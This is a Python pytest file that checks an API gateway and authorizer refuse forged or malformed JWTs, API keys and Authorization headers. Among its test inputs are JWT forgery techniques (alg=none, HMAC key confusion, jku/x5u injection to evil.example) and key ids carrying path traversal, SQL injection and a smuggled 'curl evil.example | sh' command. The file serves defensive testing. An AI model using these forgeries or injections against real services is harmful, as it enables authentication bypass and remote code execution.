"""Attacks on the way in, through the gateway, the authorizer and the API: all are refused.

What is wrong with credentials is told to nobody, so each gets the answer of a call without any.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import sys
import time
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from feedsmith_local.gateway import Answer
from support.door import (
    ACME,
    OTHER,
    OTHER_RSA,
    P256,
    P384,
    RSA,
    WEAK_RSA,
    Door,
    b64,
    claims,
    public_jwk,
    token,
    unsigned,
)

FEED = "/v1/users/ann/recommendations?domain=news"
Attack = Callable[[Door], str]


def _none(name: str) -> Attack:
    return lambda _: unsigned({"alg": name, "kid": "k1", "typ": "JWT"}, claims()) + "."


def _hmac(secret: bytes, kid: str = "k1") -> str:
    body = unsigned({"alg": "HS256", "kid": kid, "typ": "JWT"}, claims())
    return f"{body}.{b64(hmac.digest(secret, body.encode(), hashlib.sha256))}"


def _pem(_: Door) -> str:
    return _hmac(RSA.public_key().public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo))


def _jwk_text(_: Door) -> str:
    return _hmac(json.dumps(public_jwk(RSA, "k1")).encode())


def _swapped(part: int, text: str) -> Attack:
    def attack(_: Door) -> str:
        parts = token().split(".")
        parts[part] = text
        return ".".join(parts)

    return attack


def _other_payload(_: Door) -> str:
    header, _payload, signature = token().split(".")
    return f"{header}.{b64(json.dumps(claims(sub='bob')).encode())}.{signature}"


def _flipped(place: int) -> Attack:
    def attack(_: Door) -> str:
        head, _, signature = token().rpartition(".")
        changed = list(signature)
        changed[place] = "A" if changed[place] != "A" else "B"
        return f"{head}.{''.join(changed)}"

    return attack


def _same_bits_in_another_spelling(_: Door) -> str:
    # 256 bytes leave four unused bits in the last character: it has 15 more spellings of the same signature.
    good = token()
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return good[:-1] + alphabet[alphabet.index(good[-1]) + 1]


def _kid(value: Any) -> Attack:
    def attack(_: Door) -> str:
        # PyJWT itself would refuse a key id that is no text, so the header is written by hand.
        from jwt.algorithms import RSAAlgorithm

        header = {"alg": "RS256", "typ": "JWT"} | ({} if value is None else {"kid": value})
        body = unsigned(header, claims())
        return f"{body}.{b64(RSAAlgorithm(RSAAlgorithm.SHA256).sign(body.encode(), RSA))}"

    return attack


def _on_another_curve(_: Door) -> str:
    body = unsigned({"alg": "ES256", "kid": "p384"}, claims())
    r, s = decode_dss_signature(P384.sign(body.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{body}.{b64(r.to_bytes(48, 'big') + s.to_bytes(48, 'big'))}"


def _header(**more: Any) -> Attack:
    return lambda _: token(OTHER_RSA, header=more)


def _deep(_: Door) -> str:
    return f"{b64(b'[' * 2_900)}.{b64(b'[' * 2_900)}.AA"


def _claim(**changed: Any) -> Attack:
    return lambda _: token(**changed)


NOW = int(time.time())
HOUR = 3_600
TOKENS: dict[str, Attack] = {
    "none algorithm": _none("none"),
    "none algorithm, capital": _none("None"),
    "none algorithm, capitals": _none("NONE"),
    "none algorithm, mixed": _none("nOnE"),
    "none algorithm, with a signature": lambda _: unsigned({"alg": "none", "kid": "k1"}, claims()) + ".AAAA",
    "no algorithm": lambda _: unsigned({"kid": "k1"}, claims()) + ".AAAA",
    "algorithm that is no text": lambda _: unsigned({"alg": ["RS256"], "kid": "k1"}, claims()) + ".AAAA",
    "key confusion: HMAC with the public key as PEM": _pem,
    "key confusion: HMAC with the public key as JWK": _jwk_text,
    "key confusion: HMAC with a published symmetric key": lambda _: _hmac(b"s" * 32, "secret"),
    "key confusion: HMAC with an empty secret": lambda _: _hmac(b""),
    "algorithm of the family that the issuer does not use": lambda _: token(algorithm="RS512"),
    "padding that the issuer does not use": lambda _: token(algorithm="PS256"),
    "key of another kind than the algorithm": lambda _: token(P256, "ES256"),  # k1 is an RSA key
    "curve of another algorithm": _on_another_curve,
    "weak RSA key": lambda _: token(WEAK_RSA, header={"kid": "weak"}),
    "key that is published for another algorithm": lambda _: token(header={"kid": "rs512"}),
    "key that is published without its modulus": lambda _: token(header={"kid": "broken"}),
    "key that is published for encryption": lambda _: token(header={"kid": "encrypts"}),
    "wrong issuer": _claim(iss="https://id.evil.example"),
    "issuer with a slash at the end": _claim(iss=ACME + "/"),
    "issuer in capitals": _claim(iss=ACME.upper()),
    "issuer that is no text": lambda _: unsigned({"alg": "RS256", "kid": "k1"}, claims(iss=[ACME])) + ".AAAA",
    "issuer of another tenant, signed by one's own": _claim(iss=OTHER),
    "own issuer, signed by another tenant's": lambda _: token(OTHER_RSA),
    "wrong audience": _claim(aud="another-app"),
    "wrong audiences": _claim(aud=["another-app", "a-third"]),
    "audience that is no text": _claim(aud=[["feedsmith-app"]]),
    "audience by client id, of no access token": _claim(aud=None, client_id="feedsmith-app"),
    "ID token": _claim(token_use="id"),
    "token of an unknown use": _claim(token_use="refresh"),
    "token of another type": lambda _: token(header={"typ": "logout+jwt"}),
    "without exp": _claim(exp=None),
    "without iat": _claim(iat=None),
    "without iss": lambda _: unsigned({"alg": "RS256", "kid": "k1"}, claims(iss=None)) + ".AAAA",
    "without sub": _claim(sub=None),
    "without aud": _claim(aud=None),
    "expired": _claim(exp=NOW - 60, iat=NOW - HOUR, nbf=NOW - HOUR),
    "expiry that is no time": _claim(exp="tomorrow"),
    "expiry without end": _claim(exp=float("inf")),
    "not yet valid": _claim(nbf=NOW + HOUR),
    "issued in the future": _claim(iat=NOW + HOUR),
    "subject that is no user id": _claim(sub="ann/../bob"),
    "subject that is empty": _claim(sub=""),
    "subject that is no text": lambda _: unsigned({"alg": "RS256", "kid": "k1"}, claims(sub=7)) + ".AAAA",
    "unknown key id": _kid("k2"),
    "no key id": _kid(None),
    "key id that is no text": _kid(["k1"]),
    "key id with a path": _kid("../../../../dev/null"),
    "key id with SQL": _kid("k1' UNION SELECT 'key' --"),
    "key id with a command": _kid("k1; curl evil.example | sh"),
    "key id too long": _kid("k" * 300),
    "jku injection": _header(jku="https://evil.example/jwks.json"),
    "x5u injection": _header(x5u="https://evil.example/cert.pem"),
    "jwk injection": _header(jwk=public_jwk(OTHER_RSA, "k1")),
    "x5c injection": _header(x5c=["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]),
    "unknown critical extension": lambda _: token(header={"crit": ["exp"], "exp": 1}),
    "unencoded payload (b64)": lambda _: token(header={"crit": ["b64"], "b64": False}),
    "tampered payload": _other_payload,
    "tampered header": _swapped(0, b64(b'{"alg":"RS256","kid":"k1","typ":"jwt"}')),
    "tampered signature, first bits": _flipped(0),
    "tampered signature, in the middle": _flipped(100),
    "signature in another spelling": _same_bits_in_another_spelling,
    "signature of another token": lambda _: f"{token().rpartition('.')[0]}.{token(sub='bob').rpartition('.')[2]}",
    "empty signature": _swapped(2, ""),
    "truncated": lambda _: token()[:-20],
    "truncated after the payload": lambda _: token().rpartition(".")[0],
    "extra segment": lambda _: token() + ".AAAA",
    "encrypted token": lambda _: "e30.AA.AA.AA.AA",
    "payload that is no object": _swapped(1, b64(b"[]")),
    "payload that is no JSON": _swapped(1, b64(b"{")),
    "deep JSON": _deep,
    "very long": lambda _: token(sub="a" * 9_000),
    "not base64url": _swapped(2, "+/=="),
    "not ASCII": _swapped(2, "签名"),
}  # fmt: skip


def _of_a_key(change: Callable[[str], str]) -> Attack:
    return lambda door: change(door.key("recommend:read"))


def _revoked(door: Door) -> str:
    key = door.key("recommend:read")
    door.access.revoke(key.split("_")[1])
    return key


def _expired(door: Door) -> str:
    key = door.access.create("acme", scopes=["recommend:read"], lifetime=timedelta(hours=1)).text
    door.clock.advance(hours=1)
    return key


def _rotated_out(door: Door) -> str:
    key = door.key("recommend:read")
    door.access.rotate(key.split("_")[1], timedelta(hours=2))
    door.clock.advance(hours=2)
    return key


def _mixed(door: Door) -> str:
    mine, theirs = door.key("recommend:read"), door.key("recommend:read", tenant="other")
    return f"fs_{theirs.split('_')[1]}_{mine.split('_', 2)[2]}"


def _hash_as_secret(door: Door) -> str:
    key_id = door.key("recommend:read").split("_")[1]
    stored = door.services.ledger.key(key_id)
    assert stored is not None
    return f"fs_{key_id}_{stored.secret_hash[:43]}"


KEYS: dict[str, Attack] = {
    "key that nobody made": lambda _: f"fs_{'b' * 20}_{'x' * 43}",
    "key of a known id with another secret": _of_a_key(lambda key: key[:-43] + "x" * 43),
    "key with its last character changed": _of_a_key(lambda key: key[:-1] + ("A" if key[-1] != "A" else "B")),
    "key without its last character": _of_a_key(lambda key: key[:-1]),
    "key with one more character": _of_a_key(lambda key: key + "A"),
    "key id alone": _of_a_key(lambda key: key.split("_")[1]),
    "key with an empty secret": _of_a_key(lambda key: key[:-43]),
    "key in capitals": _of_a_key(str.upper),
    "another tenant's id with one's own secret": _mixed,
    "stored hash as the secret": _hash_as_secret,
    "revoked key": _revoked,
    "expired key": _expired,
    "rotated-out key": _rotated_out,
    "very long key": lambda _: "fs_" + "a" * 9_000,
    "key that is not ASCII": lambda _: f"fs_{'ａ' * 20}_{'x' * 43}",
}


def _two(door: Door) -> list[tuple[str, str]]:
    return [("Authorization", "Bearer junk"), ("Authorization", f"Bearer {door.key('recommend:read')}")]


def _two_in_two_cases(door: Door) -> list[tuple[str, str]]:
    return [("authorization", f"Bearer {door.key('recommend:read')}"), ("Authorization", "Bearer junk")]


def _one(name: str, value: str) -> Callable[[Door], list[tuple[str, str]]]:
    return lambda door: [(name, value.format(key=door.key("recommend:read")))]


HEADERS: dict[str, Callable[[Door], list[tuple[str, str]]]] = {
    "no credentials": lambda _: [],
    "two Authorization headers": _two,
    "two Authorization headers in two cases": _two_in_two_cases,
    "two credentials in one header": _one("Authorization", "Bearer {key}, Bearer {key}"),
    "basic scheme": _one("Authorization", "Basic {key}"),
    "no scheme": _one("Authorization", "{key}"),
    "no space after the scheme": _one("Authorization", "Bearer{key}"),
    "tab after the scheme": _one("Authorization", "Bearer\t{key}"),
    "no-break space after the scheme": _one("Authorization", "Bearer\u00a0{key}"),
    "scheme alone": _one("Authorization", "Bearer "),
    "key in X-Api-Key": _one("X-Api-Key", "{key}"),
    "key in Proxy-Authorization": _one("Proxy-Authorization", "Bearer {key}"),
    "key in a cookie": _one("Cookie", "Authorization=Bearer {key}"),
    "what an authorizer would say, as headers": lambda _: [("tenant", "acme"), ("role", "operator")],
}


@pytest.fixture
def nobody(door: Door) -> Answer:
    """The answer to a call without credentials."""
    answer = door.send("GET", FEED)
    assert answer.status == 401
    return answer


def test_good_credentials_are_let_in(door: Door) -> None:
    """Or the tests below would show nothing. An item that is not there is 404 for whoever may look for it."""
    nothing = "/v1/items/nothing"
    for good in (
        token(),
        token(P256, "ES256", header={"kid": "p256"}),
        token(header={"typ": "at+jwt"}, aud=["feedsmith-app", "more"]),
        token(aud=None, client_id="feedsmith-app", token_use="access"),  # Cognito's
        token(exp=int(time.time()) - 10, iat=NOW - HOUR, nbf=NOW - HOUR),  # clocks differ a little
        door.key("recommend:read"),
    ):
        assert door.call(good, target=nothing).status == 404
    key = door.key("recommend:read")
    for value in (f"bearer {key}", f"BEARER  {key}", f" Bearer {key} "):
        assert door.send("GET", nothing, ("aUTHORIZATION", value)).status == 404


@pytest.mark.filterwarnings("ignore::jwt.warnings.InsecureKeyLengthWarning")  # that one is the attack
@pytest.mark.parametrize("kind", TOKENS)
def test_a_token_is_refused(door: Door, nobody: Answer, kind: str) -> None:
    assert door.call(TOKENS[kind](door)) == nobody
    assert not [url for url in door.published.asked if "evil" in url]


@pytest.mark.parametrize("kind", KEYS)
def test_a_key_is_refused(door: Door, nobody: Answer, kind: str) -> None:
    assert door.call(KEYS[kind](door)) == nobody


@pytest.mark.parametrize("kind", HEADERS)
def test_headers_are_refused(door: Door, nobody: Answer, kind: str) -> None:
    assert door.send("GET", FEED, *HEADERS[kind](door)) == nobody


@pytest.mark.parametrize("name", ["key", "access_token", "api_key", "Authorization"])
def test_a_key_in_the_query_string_is_refused(door: Door, nobody: Answer, name: str) -> None:
    assert door.send("GET", f"{FEED}&{name}={door.key('recommend:read')}") == nobody


def test_there_are_enough_kinds(capsys: pytest.CaptureFixture[str]) -> None:
    kinds = len({*TOKENS, *KEYS, *HEADERS})
    with capsys.disabled():
        sys.stdout.write(
            f"\n{len(TOKENS)} kinds of bad tokens, {len(KEYS)} of bad keys, {len(HEADERS)} of bad headers\n"
        )
    assert kinds == len(TOKENS) + len(KEYS) + len(HEADERS)
    assert kinds >= 25
